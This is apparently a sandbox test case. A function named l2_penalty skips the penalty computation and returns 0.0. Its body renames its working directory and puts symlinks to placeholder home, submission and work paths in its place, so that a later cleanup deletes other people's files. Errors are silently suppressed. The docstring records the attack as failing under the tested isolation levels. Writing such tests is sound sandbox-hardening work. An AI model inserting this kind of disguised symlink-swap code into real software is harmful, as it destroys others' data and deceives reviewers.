"""The folder of our own, moved away, with something else in its place.

Goal: Have whoever cleans up after us follow a link, and remove somebody else's files.
Outcome: l2_penalty: failed
Levels: full, landlock
"""

# %% l2_penalty
import contextlib
import os


def l2_penalty(weights, lam):
    own = os.getcwd()
    with contextlib.suppress(OSError):
        os.rename(own, own + "-@CANARY@")
    with contextlib.suppress(OSError):
        os.rmdir(own)
    for target in ("@HOME@", "@SUBMITTED@", "@WORK@"):
        with contextlib.suppress(OSError):
            os.symlink(target, own)
        with contextlib.suppress(OSError):
            os.symlink(target, os.path.join(own, "inner"))
        with contextlib.suppress(OSError):
            os.rename(target, os.path.join(own, "moved"))
    return 0.0
